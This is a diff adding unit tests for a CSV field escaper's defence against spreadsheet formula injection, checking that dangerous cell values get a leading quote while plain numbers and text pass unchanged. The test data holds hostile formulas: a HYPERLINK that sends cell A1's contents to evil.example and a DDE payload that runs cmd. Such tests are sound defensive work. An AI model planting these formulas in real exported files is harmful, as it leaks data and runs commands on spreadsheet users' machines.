@@ -39,3 +39,33 @@ describe('csvRecord', () => {
     expect(() => parseStrictCsv('a,b\nx,y\n')).toThrow();
   });
 });
+
+describe('formula injection', () => {
+  it.each([
+    [
+      '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`,
+    ],
+    ['=1+2', "'=1+2"],
+    ['+cmd|/c calc!A1', "'+cmd|/c calc!A1"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', `"'\r=1"`],
+    ['-', "'-"],
+  ])('neutralises %j', (value, field) => {
+    expect(csvField(value)).toBe(field);
+  });
+
+  it('keeps plain numbers numeric, whether given as numbers or as text', () => {
+    for (const value of ['-0.5', '-1', '+3', '-1e-9', '-.5', '0.000000150'])
+      expect(csvField(value)).toBe(value);
+    expect(csvField(-0.5)).toBe('-0.5');
+    expect(csvField(-12)).toBe('-12');
+  });
+
+  it('leaves text that only contains the characters alone', () => {
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField('user@example.com')).toBe('user@example.com');
+  });
+});
